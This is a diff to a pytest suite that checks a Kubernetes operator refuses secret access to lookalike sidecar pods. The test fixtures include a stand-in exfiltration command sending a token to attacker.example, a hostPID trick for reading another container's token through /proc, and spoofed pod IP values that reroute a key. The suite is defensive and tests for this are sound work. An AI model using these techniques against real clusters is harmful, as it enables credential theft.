@@ -190,24 +190,31 @@ def test_naming_default_warns_and_holds_back_the_default_accounts_bare_pods(
     assert condition(policy, "DefaultSubject") is None
 
 
-def _own_command(sidecar: dict[str, Any]) -> None:
-    sidecar["command"] = ["sh", "-c", "send-my-token-to https://attacker.example"]
+def _own_command(pod: dict[str, Any]) -> None:
+    manifests.sidecar(pod)["command"] = ["sh", "-c", "send-my-token-to https://attacker.example"]
 
 
-def _made_up_pod_addresses(sidecar: dict[str, Any]) -> None:
+def _host_pids(pod: dict[str, Any]) -> None:
+    # The real sidecar, but an agent that sees the host's processes reads its
+    # token through /proc/<pid>/root. Admitted by the vetting before it checked hostPID.
+    pod["spec"]["hostPID"] = True
+
+
+def _made_up_pod_addresses(pod: dict[str, Any]) -> None:
     # The real sidecar, told its pod has other addresses (plain values, not
     # status.podIPs): its refusal of upstreams resolving to its own pod then
     # misses the real ones, and a hosts entry hairpins the key to the agent.
     # Admitted by the vetting before it checked the fieldRefs.
-    for e in sidecar["env"]:
+    for e in manifests.sidecar(pod)["env"]:
         if e["name"] in (contract.ENV_POD_IP, contract.ENV_POD_IPS):
             e.pop("valueFrom")
             e["value"] = "192.0.2.1"
 
 
 #: One way each to make the injected shape a look-alike with the allowed image,
-#: so only the vetting of the sidecar itself can tell.
-LOOKALIKES = {"own-command": _own_command, "made-up-pod-addresses": _made_up_pod_addresses}
+#: so only the vetting of the sidecar and its pod can tell.
+LOOKALIKES = {"own-command": _own_command, "made-up-pod-addresses": _made_up_pod_addresses,
+              "host-pids": _host_pids}
 
 
 @pytest.mark.parametrize("lookalike", sorted(LOOKALIKES))
@@ -215,7 +222,7 @@ def test_a_lookalike_sidecar_that_predates_its_account_being_named_gets_no_grant
         cluster: Any, operator: RunningOperator, team: str, lookalike: str) -> None:
     assert admission.create(cluster, manifests.service_account(team, "mimic")).admitted
     pod = manifests.injected_pod(team, "mimic-pod", sa="mimic")
-    LOOKALIKES[lookalike](manifests.sidecar(pod))
+    LOOKALIKES[lookalike](pod)
     assert admission.create(cluster, pod).admitted  # nobody names mimic yet
     policy = _name(cluster, team, ["agent", "mimic"])
     assert _read_secret(cluster, _pod_token(cluster, team, "mimic-pod", "mimic"), team) == 403, \
